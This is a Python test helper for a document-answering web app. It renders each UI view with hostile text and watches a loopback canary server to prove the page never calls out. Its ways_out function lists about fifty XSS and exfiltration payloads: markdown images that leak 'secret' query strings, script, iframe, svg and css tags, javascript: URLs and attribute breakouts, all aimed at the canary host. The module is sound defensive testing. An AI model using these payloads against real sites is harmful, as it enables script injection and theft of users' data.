"""What a hostile text would do to the page: known attacks, ways to send words elsewhere, and every place they reach."""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import replace
from functools import lru_cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

from rag.cite import cite
from rag.ledger import FileRecord, Listed
from rag.types import Answer, Article, Block, Disagreement, Source, Span, SyncReport, WhyNot
from rag.verify import verify
from tests.evidence import draft, evidence, hit, same
from tests.reports import report
from ui.articles_view import Entry, Problem, list_html
from ui.conversations import Conversation
from ui.evaluation_runs import Run
from ui.evaluation_store import DataSet, Summary
from ui.evaluation_view import home_html, run_html
from ui.evidence import gone_html, nowhere_html, sources_html
from ui.indexing import Job, Work
from ui.listing import listing_html
from ui.reading import Place, Reading, article_html
from ui.report_view import compared_html, report_html
from ui.turn_view import draft_html, notice_html, refused_html, turn_html
from ui.turns import SEARCH, Asked, Feedback, Reply, Turn
from ui.why import others_html, why_html
from ui.work_view import Allowed, work_html

ALLOWED = Allowed(None, uploads=True, urls=True, remove=True, megabytes=25)
DRAFTS = 400  # in one picture of a turn that streams in


class Canary:
    """A server on the loopback that nothing of the page may ask for anything; `asked` keeps what came."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        canary = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                canary.asked.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("access-control-allow-origin", "*")
                self.send_header("content-length", "0")
                self.end_headers()

            do_POST = do_OPTIONS = do_HEAD = do_PUT = do_GET  # noqa: N815 - the names that the server looks for

            def log_message(self, *_: Any) -> None:
                """Nothing on stderr."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self._server.server_port}"

    @contextmanager
    def serving(self) -> Iterator[Canary]:
        thread = Thread(target=self._server.serve_forever, args=(0.1,))
        thread.start()
        try:
            yield self
        finally:
            self._server.shutdown()
            self._server.server_close()
            thread.join()


def ways_out(host: str) -> list[str]:
    """Return texts that would make a page which believes them ask `host` for something, or lead a reader there."""
    url = f"http://{host}"
    return [
        f"![]({url}/md?q=secret)",
        f"![a]({url}/md 'title')",
        f"![x][y]\n\n[y]: {url}/reference",
        f"[y]: <{url}/reference>\n\n![y]",
        f"[![x]({url}/inner)]({url}/outer)",
        f"<{url}/auto>",
        f"{url}/bare www.{host}/bare",
        f"[http://good.example/]({url}/other)",
        f"[x](http://good.example@{host}/user)",
        f"[x](//{host}/relative)",
        f"![x](//{host}/relative)",
        "[x](javascript&#58;window.hacked=1)",
        "[x](java\tscript:window.hacked=1)",
        "[x](data:text/html,<script>window.hacked=1</script>)",
        f"![x](ht&#116;p://{host}/entity)",
        f"<img src={url}/img>",
        f'<img srcset="{url}/set 1x, {url}/set2 2x">',
        f'<picture><source srcset="{url}/source"><img></picture>',
        f"<video poster={url}/poster src={url}/video autoplay></video>",
        f"<audio src={url}/audio autoplay></audio>",
        f"<svg><image href={url}/svg /></svg>",
        f"<svg><use href={url}/use#x /></svg>",
        f"<svg><style>@import '{url}/svgstyle'</style></svg>",
        f"<div style='background:url({url}/css)'>x</div>",
        f"<style>@import url({url}/import); body {{ background: url({url}/style) }}</style>",
        f"<link rel=stylesheet href={url}/link>",
        f"<link rel=prefetch href={url}/prefetch>",
        f"<link rel=icon href={url}/icon>",
        f"<iframe src={url}/frame></iframe>",
        "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
        f"<object data={url}/object></object>",
        f"<embed src={url}/embed>",
        f"<script src={url}/script></script>",
        f"<base href={url}/>",
        f"<meta http-equiv=refresh content='0;url={url}/refresh'>",
        f"<form action={url}/form><button autofocus>Sign in</button></form>",
        f"<input type=image src={url}/input>",
        f"<table background={url}/table><tr><td>x</table>",
        f"<math><mtext><img src={url}/math></mtext></math>",
        f"<noscript><p title='</noscript><img src={url}/noscript onerror=window.hacked=1>'>",
        f"$$\\href{{{url}/katex}}{{x}} \\includegraphics{{{url}/katex.png}}$$",
        f"\\(\\includegraphics{{{url}/katex.png}}\\)",
        f'```mermaid\ngraph TD; A[<img src={url}/mermaid>] --> B\nclick A "{url}/click"\n```',
        f"```html\n<img src={url}/code>\n```",
        f"<a href={url}/ping ping={url}/pinged>x</a>",
        "${window.hacked = 1} {{window.hacked = 1}} {window.hacked = 1} <%= window.hacked = 1 %>",
        "#{window.hacked=1} [[window.hacked=1]] @{{window.hacked=1}}",
        "[1](javascript:window.hacked=1) <a class=cite href=#cite-1-1 onclick=window.hacked=1>1</a>",
        '" autofocus onfocus="window.hacked=1" x="',
        "' onmouseover='window.hacked=1",
        "</article></div></template></textarea></title><img src=x onerror=window.hacked=1>",
        "\u202egnp.exe <img src=x onerror=window.hacked=1>",
    ]


def known(file: Path) -> list[str]:
    """Return the texts of a file of attacks, each once."""
    lines = file.read_text(encoding="utf-8").split("\n")[:-1]
    return list(dict.fromkeys(json.loads(line)["payload"] for line in lines))


# ---------------------------------------------------------------- what streams in


def beginnings(texts: Sequence[str]) -> list[str]:
    """Return each beginning of each text once; of what is longer than 48 characters, every sixth of the rest."""
    return list(
        dict.fromkeys(
            text[:end]
            for text in texts
            for end in range(1, len(text) + 1)
            if end <= 48 or end % 6 == 0 or end == len(text)
        )
    )


def drafts(texts: Sequence[str]) -> Iterator[tuple[int, str]]:
    """Yield turns that are being written, with how many of the texts each shows."""
    for at in range(0, len(texts), DRAFTS):
        part = texts[at : at + DRAFTS]
        yield len(part), draft_html("What?", 1, [("model", text) for text in part], "model")


# ---------------------------------------------------------------- every place of the page


@lru_cache(maxsize=4)
def answered(texts: tuple[str, ...], model: str = "model") -> Answer:
    """Return a checked answer in which each of these texts (8 at most) is a sentence, a title, a name and a passage."""
    passages = [
        hit(f"It is {text} so. Number {n}.", f"{n} {text}", title=text, published=text[:20] or None)
        for n, text in enumerate(texts)
    ]
    whole = "\n".join(texts)
    found = replace(evidence(f"So {whole}?", *passages), missing=texts)
    said = "\n\n".join(f"It is {text} so [{n}]." for n, text in enumerate(texts, start=1))
    cited = cite(draft(f"{said}\n\n- {texts[0]} [1]", found), found, same)
    shown, sentences = verify(cited, found)
    sentences = tuple(
        replace(sentence, reasons=(text,)) for sentence, text in zip(sentences, itertools.cycle(texts), strict=False)
    )
    citations = cited.citations
    apart = tuple(Disagreement(*pair) for pair in itertools.pairwise(citations))
    return Answer(whole, "partial", shown, sentences, citations, found, model, warnings=texts, disagreements=apart)


def turns(texts: tuple[str, ...], number: int) -> str:
    """Return the turns of a conversation in which every word of others is one of these texts, or all of them."""
    whole = "\n".join(texts)
    answer = answered(texts, whole)
    nothing = replace(answer, status="not_found", text=whole, sentences=(), citations=())
    plain = Reply(answer, feedback=Feedback(good=True, reason=whole))
    said = [
        Turn(whole, (plain,)),
        Turn(whole, (Reply(nothing, whole),)),
        Turn(whole, (Reply(replace(nothing, model=SEARCH)),)),
    ]
    if number % 4 == 0:
        said.append(Turn(whole, (plain, plain, Reply(None, whole)), Asked("compare", (whole, whole, whole))))
    shown = [turn_html(turn, number, "conversation") for turn in said]
    return "".join((*shown, refused_html(whole, number, whole), notice_html(whole)))


def evidence_of(texts: tuple[str, ...]) -> str:
    """Return what the evidence pane shows of articles whose every word is one of these texts."""
    answer = answered(texts, "\n".join(texts))
    body, blocks = "", []
    for text in texts:
        blocks += [Block(len(body), len(body) + len(text), "text")] if text else []
        body += f"{text}\n\n"
    article = Article("a.md", body, tuple(blocks), texts[0])
    place = Place(source_of(texts[0], article.content_hash), "#cite-1-1", "Footnote 1 of 1", (Span(0, 9),))
    opened = article_html(Reading(article, place, "1", ((Span(5, 14), 2),), note=texts[0]))
    parts = [article_of(text, answer) for text in texts]
    about = [source_of(text, "sha256:0") for text in texts]
    return "".join((sources_html(answer, "1"), opened, *parts, others_html(about, any_there=True)))


def article_of(text: str, answer: Answer) -> str:
    """Return an article that has changed, one that is gone, and why one was not cited."""
    article = Article("a.md", text, (), text, text, text, text, text)
    about = source_of(text, "sha256:0")
    place = Place(about, "#cite-1-1", "Footnote 1 of 1", (Span(0, 3),), text, None, "#cite-1-2")
    changed = Reading(article, place, "1", note=text)
    why = WhyNot(text, "0" * 16, "taken", 2, 100, Span(0, 1), number=1)
    return "".join(
        (
            article_html(changed),
            gone_html(about, text, "1"),
            nowhere_html(text, "1", 2),
            why_html(why, about, answer),
        )
    )


def source_of(text: str, content_hash: str) -> Source:
    return Source("0" * 16, text, text, text, text, text, text, "internal", content_hash)


def lists_of(texts: tuple[str, ...]) -> str:
    """Return the panes on the left, with these texts for every title, name, reason and search."""
    entries, problems, jobs = [], [], []
    for text in texts:
        about = source_of(text, "sha256:0")
        record = FileRecord(text, "failed", text, "", "")
        entries.append(Entry(Listed(about, text, (text,), 1), 2, by_text=True, reason=text, uploaded=True))
        problems += [Problem(record, uploaded=True), Problem(record, uploaded=False)]
        synced = SyncReport((text,), ((text, text),), ((text, text),), (), 0)
        jobs += [
            Job(1, "upload", (text, "b"), "done", report=synced, at="2"),
            Job(2, "add", (f"http://{text}",), "done", error=text, at="2"),
            Job(3, "remove", (text,), "done", at="2"),
        ]
    whole = "\n".join(texts)
    return "".join(
        (
            list_html(entries, 1, set(), problems, whole, ALLOWED),
            work_html(Work(1, tuple(jobs), Job(4, "upload", texts[:2]), ()), ALLOWED, set(texts), "1"),
            listing_html([Conversation("c", text, text, 1) for text in texts], None, whole, 30),
        )
    )


def evaluation_of(texts: Sequence[str]) -> str:
    """Return the view of evaluations, and a report whose every text is one of these."""
    results = report(len(texts))["results"]
    for result, text in zip(results, texts, strict=True):
        quoted = {"document": text, "source": text, "quote": text, "text": text, "start": 0, "end": 1}
        result |= {"id": text, "text": text, "answer": text, "gold": [[text]], "type": text[:40], "error": text}
        result |= {"failure": "document not found", "citations": [quoted], "evidence": [quoted], "nearest": [quoted]}
    text = texts[0]
    whole = {
        **report(4),
        "results": results,
        "dataset": text,
        "unit": "questions",
        "config": {text: text, "model": text},
    }
    whole["by_type"] = {text: whole["metrics"]}
    pairs = [{"text": item, "failure": (item, item), "scores": {item: (0.0, 1.0)}} for item in texts]
    found = {
        "questions": 2,
        "only_first": 0,
        "only_second": 0,
        "metrics": {},
        "config": {text: (text, text)},
        "failures": {text: (1, 2)},
        "latency_ms": {},
        "changed": pairs,
    }
    data = DataSet(text, Path("x"), "questions", 3)
    summary = Summary(text, text, text, text, "questions", 3, 1, ())
    return "".join(
        (
            home_html([data], [summary], [text], [text], "", judge=True),
            report_html(text, whole),
            compared_html((text, text), found),
            *(run_html(Run(text, "s", text, state, error=text), "s") for state in ("running", "done", "failed")),
        )
    )
